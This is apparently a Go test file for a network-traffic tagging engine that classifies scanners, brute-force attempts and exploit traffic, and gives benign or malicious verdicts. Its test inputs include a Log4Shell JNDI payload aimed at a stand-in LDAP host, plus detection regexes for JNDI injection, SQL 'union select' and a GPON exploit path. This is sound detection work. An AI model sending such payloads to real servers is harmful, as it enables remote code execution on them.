package tag

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vantagehq/vantage/record"
)

func TestDefault(t *testing.T) {
	e := Default()
	byCat := map[string]int{}
	for _, m := range e.Tags() {
		byCat[m.Category]++
		if m.Name == "" || m.Description == "" {
			t.Errorf("%s: missing name or description", m.Slug)
		}
		for _, c := range m.CVEs {
			if !strings.HasPrefix(c, "CVE-") {
				t.Errorf("%s: bad CVE %q", m.Slug, c)
			}
		}
	}
	if n := len(e.Tags()); n < 60 {
		t.Fatalf("%d tags, want at least 60", n)
	}
	t.Logf("tags by category: %v", byCat)
	for _, a := range DefaultActors().List() {
		if m, ok := e.Meta(a.Name); !ok || m.Category != "actor" {
			t.Errorf("actor %s has no actor tag", a.Name)
		}
	}
	if _, ok := e.Meta("NOPE"); ok {
		t.Error("Meta of an unknown slug")
	}
}

func TestLoadErrors(t *testing.T) {
	head := "[[tag]]\nslug = \"X\"\nname = \"x\"\ncategory = \"activity\"\n"
	cases := map[string]string{
		"bad toml":        "[[tag]\n",
		"unknown key":     head + "[[tag.match]]\nport = 1\n",
		"bad slug":        "[[tag]]\nslug = \"x y\"\nname = \"x\"\ncategory = \"activity\"\n[[tag.match]]\ntransport=[\"tcp\"]\n",
		"bad category":    "[[tag]]\nslug = \"X\"\nname = \"x\"\ncategory = \"thing\"\n[[tag.match]]\ntransport=[\"tcp\"]\n",
		"bad intention":   head + "intention = \"evil\"\n[[tag.match]]\ntransport=[\"tcp\"]\n",
		"no match":        head,
		"empty block":     head + "[[tag.match]]\n",
		"bad regex":       head + "[[tag.match]]\npayload_regex = \"(\"\n",
		"bad port":        head + "[[tag.match]]\nports = [70000]\n",
		"bad range":       head + "[[tag.match]]\nports = [\"9-1\"]\n",
		"bad flags":       head + "[[tag.match]]\ntcp_flags = \"SZ\"\n",
		"bad hex":         head + "[[tag.match]]\npayload_hex = [\"zz\"]\n",
		"bad ttl":         head + "[[tag.match]]\nttl = [1]\n",
		"bad cidr":        head + "[[tag.match]]\nsrc_cidrs = [\"1.2.3.4/99\"]\n",
		"flags with udp":  head + "[[tag.match]]\ntransport=[\"udp\"]\ntcp_flags=\"S\"\n",
		"threshold ghost": head + "[tag.threshold]\nof = \"NOPE\"\ncount = 3\nwindow = \"1m\"\n",
		"threshold zero":  head + "[[tag.match]]\ntransport=[\"tcp\"]\n[[tag]]\nslug=\"Y\"\nname=\"y\"\ncategory=\"activity\"\n[tag.threshold]\nof=\"X\"\ncount=0\nwindow=\"1m\"\n",
		"duplicate":       head + "[[tag.match]]\ntransport=[\"tcp\"]\n" + head + "[[tag.match]]\ntransport=[\"udp\"]\n",
		"duplicate id":    head + "[[tag.match]]\nid=\"a\"\ntransport=[\"tcp\"]\n[[tag.match]]\nid=\"a\"\ntransport=[\"udp\"]\n",
	}
	for name, src := range cases {
		if _, err := Load(Options{}, []byte(src)); err == nil {
			t.Errorf("%s: loaded", name)
		}
	}
	good := head + "[[tag.match]]\ntransport=[\"udp\"]\nports=[53, \"1000-1002\"]\n"
	e, err := Load(Options{}, []byte(good))
	if err != nil {
		t.Fatal(err)
	}
	ev := &record.Event{Transport: "udp", DstPort: 1001}
	if got := Slugs(e.Tag(ev)); !slices.Equal(got, []string{"X"}) {
		t.Errorf("got %v", got)
	}
	ev.DstPort = 1003
	if got := e.Tag(ev); len(got) != 0 {
		t.Errorf("got %v", got)
	}
}

func TestWidePortRange(t *testing.T) {
	src := "[[tag]]\nslug=\"HI\"\nname=\"hi\"\ncategory=\"activity\"\n[[tag.match]]\ntransport=[\"tcp\"]\nports=[\"10000-65535\"]\n"
	e, err := Load(Options{}, []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []uint16{10000, 40000, 65535} {
		if len(e.Tag(&record.Event{Transport: "tcp", DstPort: p})) != 1 {
			t.Errorf("port %d not matched", p)
		}
	}
	if len(e.Tag(&record.Event{Transport: "tcp", DstPort: 9999})) != 0 {
		t.Error("port 9999 matched")
	}
}

func TestMasscanIPID(t *testing.T) {
	// dst 198.51.100.130 = 0xc6336482, port 80, seq 0xdeadbeef:
	// 0x6482 ^ 0x0050 ^ 0xbeef = 0xda3d
	ev := &record.Event{Dst: netip.MustParseAddr("198.51.100.130"), DstPort: 80, TCPSeq: 0xdeadbeef, IPID: 0xda3d}
	if !masscanIPID(ev) {
		t.Error("masscan relation not recognised")
	}
	ev.IPID++
	if masscanIPID(ev) {
		t.Error("masscan relation on a wrong IP ID")
	}
	ev.Dst = netip.MustParseAddr("2001:db8::1")
	if masscanIPID(ev) || seqIsDst(ev) {
		t.Error("IPv6 must not match IPv4 relations")
	}
}

func TestRequiredLiteral(t *testing.T) {
	for pat, want := range map[string]string{
		`\$\{(\$\{[^{}]{0,40}\}|[jndi]){4}:`: "${",
		`(?i)union\s+select`:                 "select",
		`/GponForm/diag_Form`:                "/GponForm/diag_Form",
		`a|b`:                                "",
	} {
		l, ok := requiredLiteral(pat)
		if got := string(l.b); ok != (want != "") || got != strings.ToLower(want) && got != want {
			t.Errorf("%s: got %q %v, want %q", pat, got, ok, want)
		}
	}
}

func TestThreshold(t *testing.T) {
	e := freshEngine(t)
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	ev := record.Event{Src: netip.MustParseAddr("192.0.2.50"), Dst: netip.MustParseAddr("198.51.100.130"),
		Transport: "tcp", DstPort: 22, Handshake: true, Username: "root"}
	brute := func(at time.Time) bool {
		ev.Time = at
		return slices.Contains(Slugs(e.Tag(&ev)), "SSH_BRUTEFORCE")
	}
	// four attempts spread over an hour: never brute force
	for i := 0; i < 4; i++ {
		if brute(t0.Add(time.Duration(i) * 20 * time.Minute)) {
			t.Fatalf("attempt %d: brute force too early", i)
		}
	}
	// the fifth is 80 minutes after the first: the last five span > 10m
	if brute(t0.Add(80 * time.Minute)) {
		t.Fatal("slow attempts counted as brute force")
	}
	// four more within a minute: now 5 within 10 minutes
	for i := 1; i <= 3; i++ {
		if brute(t0.Add(80*time.Minute + time.Duration(i)*time.Second)) {
			t.Fatalf("burst %d: too early", i)
		}
	}
	if !brute(t0.Add(80*time.Minute + 4*time.Second)) {
		t.Fatal("5 attempts within 10 minutes not brute force")
	}
	// another source is independent
	ev.Src = netip.MustParseAddr("192.0.2.51")
	if brute(t0.Add(81 * time.Minute)) {
		t.Fatal("state leaked across sources")
	}
}

func TestThresholdStateBounded(t *testing.T) {
	e, err := LoadFS(embedded, "rules", Options{MaxSources: 100})
	if err != nil {
		t.Fatal(err)
	}
	ev := record.Event{Transport: "tcp", DstPort: 23, Handshake: true, Username: "admin", Time: time.Unix(1e9, 0)}
	for i := 0; i < 5000; i++ {
		ev.Src = netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)})
		e.Tag(&ev)
	}
	if n := e.state.Len(); n != 100 {
		t.Fatalf("state holds %d sources, want 100", n)
	}
}

func TestVerdict(t *testing.T) {
	e := Default()
	meta := func(s string) Meta { m, _ := e.Meta(s); return m }
	shodan, _ := DefaultActors().Actor("SHODAN")
	bad := &Actor{Name: "BADCO", Intention: Malicious}
	cases := []struct {
		actor *Actor
		tags  []string
		want  string
	}{
		{nil, nil, Unknown},
		{nil, []string{"TCP_SYN", "ZMAP"}, Unknown},
		{nil, []string{"TCP_SYN", "LOG4SHELL"}, Malicious},
		{shodan, []string{"LOG4SHELL"}, Benign}, // a benign actor overrides
		{bad, []string{"TCP_SYN"}, Malicious},
		{&Actor{Name: "SOMEONE", Intention: Unknown}, []string{"HTTP_SCANNER"}, Unknown},
	}
	for _, c := range cases {
		var ms []Meta
		for _, s := range c.tags {
			ms = append(ms, meta(s))
		}
		got, ev := Verdict(c.actor, ms)
		if got != c.want {
			t.Errorf("%v %v: got %s, want %s", c.actor, c.tags, got, c.want)
		}
		if got != Unknown && len(ev) == 0 {
			t.Errorf("%v %v: no evidence", c.actor, c.tags)
		}
	}
}

func TestProfile(t *testing.T) {
	e := freshEngine(t)
	src := netip.MustParseAddr("192.0.2.77")
	p := &Profile{}
	evs := []record.Event{
		{ID: record.HashID("1"), Src: src, Dst: netip.MustParseAddr("198.51.100.130"), Transport: "tcp", TCPFlags: 2, DstPort: 80},
		{ID: record.HashID("2"), Src: src, Dst: netip.MustParseAddr("198.51.100.130"), Transport: "tcp", DstPort: 80, Handshake: true,
			Payload: []byte("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")},
	}
	for i := range evs {
		e.Observe(p, &evs[i], e.Tag(&evs[i]))
	}
	v, ev := p.Verdict()
	if v != Malicious || len(ev) != 1 || ev[0].Slug != "LOG4SHELL" || ev[0].Event != evs[1].ID || ev[0].Rule != "log4shell-jndi" {
		t.Fatalf("verdict %s %+v", v, ev)
	}
	// the same source seen as Shodan by forward-confirmed rDNS: benign
	shodanEv := evs[0]
	shodanEv.Actor = "SHODAN"
	e.Observe(p, &shodanEv, e.Tag(&shodanEv))
	v, ev = p.Verdict()
	if v != Benign || ev[0].Kind != "actor" || !strings.Contains(ev[0].Text, "SHODAN") {
		t.Fatalf("verdict %s %+v", v, ev)
	}
}
